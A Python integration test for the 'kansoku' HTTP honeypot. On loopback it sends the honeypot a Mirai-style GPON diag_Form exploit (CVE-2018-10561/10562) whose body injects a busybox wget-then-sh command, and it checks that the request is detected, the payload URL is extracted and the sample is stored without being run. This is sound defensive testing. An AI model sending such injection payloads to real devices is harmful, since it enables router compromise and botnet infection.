#!/usr/bin/env python3
"""The HTTP honeypot against curl and a raw socket, on loopback (root not needed).

Checks: GET / answers as the persona (401 with the router's Basic realm) and is a honeypot.http_request; a GPON
diag_Form exploit (CVE-2018-10561/10562, as Mirai variants send it) matches its rule, the URL in its injected
command is extracted, fetched from a loopback HTTP server and stored under its SHA-256 with no execute bit, and
nothing runs on the host; a malformed request is logged as malformed.

Usage: honeypot_http.py PATH/TO/kansoku [--keep DIR]
"""

import os
import random
import shutil
import socket
import stat
import sys
import time
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402

GPON_RULE = "http-gpon-diag-form-cve-2018-10561-10562"


def raw_request(port: int, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(data)
        reply = b""
        try:
            while len(reply) < 65536:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                reply += chunk
        except socket.timeout:
            pass
    return reply


def main() -> int:
    binary = ic.kansoku_binary()
    keep = Path(sys.argv[sys.argv.index("--keep") + 1]) if "--keep" in sys.argv else None
    if shutil.which("curl") is None:
        ic.skip("curl is not installed (scripts/setup installs it)")
    ic.exit_on_signals()
    checks = ic.Checks()
    work = ic.make_temp_dir("kansoku-http-")
    marker = work / "EXECUTED-ON-HOST"
    payload = b"\x7fELF\x01\x02\x01\x00" + bytes(8) + f"\n#!/bin/sh\ntouch {marker}\n".encode() + \
        random.Random(9).randbytes(300)
    server = hl.SampleServer({"/bins/g.mips": payload})
    lab = hl.HoneypotLab(binary, work, {"honeypot.telnet": {"enabled": False}, "honeypot.http": {"enabled": True}})
    try:
        lab.start()
        port = lab.ports["http"]
        base = f"http://127.0.0.1:{port}"
        index = ic.run(["curl", "-s", "-i", "--max-time", "10", base + "/"], timeout=30)
        checks.check(index.stdout.startswith("HTTP/1.1 401") and "WWW-Authenticate: Basic realm=" in index.stdout,
                     "GET / answers 401 with the persona's Basic realm", index.stdout[:600])
        url = f"http://127.0.0.1:{server.port}/bins/g.mips"
        body = ("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox wget " + url +
                " -O /tmp/gpon80;sh /tmp/gpon80`&ipv=0")
        exploit = ic.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10",
                          "-A", "Hello, World", "--data-binary", body, base + "/GponForm/diag_Form?images/"],
                         timeout=30)
        checks.check(exploit.returncode == 0 and exploit.stdout.strip().isdigit(),
                     f"the GPON exploit request got an HTTP answer ({exploit.stdout.strip()})", exploit.stderr)
        malformed = raw_request(port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03GARBAGE\r\n\r\n")
        print(f"      a malformed request got {len(malformed)} bytes back", flush=True)
        lab.wait_for_events(lambda ev: ic.of_type(ev, "sample") and len(ic.of_type(ev, "honeypot.http_request")) >= 3,
                            15)
    except (RuntimeError, OSError, ValueError) as e:
        checks.check(False, "the HTTP requests ran", f"{type(e).__name__}: {e}")
    finally:
        status = lab.stop()
        server.stop()
    try:
        checks.check(status == 0, "kansoku honeypot exits 0 on SIGINT", lab.stderr_text[-1500:])
        events = lab.events()
        requests = ic.of_type(events, "honeypot.http_request")
        index_requests = [r for r in requests if r.get("method") == "GET" and r.get("path") == "/"]
        checks.check(len(index_requests) == 1, f"GET / is one honeypot.http_request ({len(index_requests)})")
        gpon = [r for r in requests if "diag_Form" in str(r.get("path", ""))]
        checks.check(len(gpon) == 1 and GPON_RULE in (gpon[0].get("rules") or []),
                     f"the exploit request matched {GPON_RULE}", str(gpon)[:1500])
        urls = [u.get("url") for u in (gpon[0].get("urls") or [])] if gpon else []
        checks.check(url in urls, f"the URL in the injected command was extracted ({urls})")
        checks.check(any(r.get("malformed") is True for r in requests), "the garbage request is logged as malformed",
                     str([(r.get("method"), r.get("malformed"), r.get("reason")) for r in requests]))
        sha = hl.sha256_of(payload)
        downloads = [d for d in ic.of_type(events, "honeypot.download") if d.get("url") == url]
        checks.check(len(downloads) == 1 and downloads[0].get("outcome") == "ok" and downloads[0].get("sha256") == sha,
                     "one honeypot.download of the URL, outcome ok, with the file's SHA-256", str(downloads))
        path = lab.sample_path(sha)
        stored = path.exists() and path.read_bytes() == payload
        checks.check(stored, f"the payload is in the store under its SHA-256 {sha[:16]}...")
        if stored:
            mode = stat.S_IMODE(path.stat().st_mode)
            checks.check(mode & 0o111 == 0, f"the stored sample has no execute bit (mode {mode:04o})")
        gets = [(r[0], r[1]) for r in server.requests]
        checks.check(gets == [("GET", "/bins/g.mips")], f"the HTTP server saw exactly one GET ({gets})")
        checks.check(not marker.exists(), "nothing ran on the host (the marker is absent)")
    except (OSError, ValueError) as e:
        checks.check(False, "the outputs were read", f"{type(e).__name__}: {e}")
    finally:
        if keep is not None:
            hl.keep_outputs(work, keep)
        ic.remove_temp_dir(work)
    return checks.exit_code()


if __name__ == "__main__":
    started = time.monotonic()
    code = main()
    print(f"({time.monotonic() - started:.1f} s)", flush=True)
    sys.exit(code)
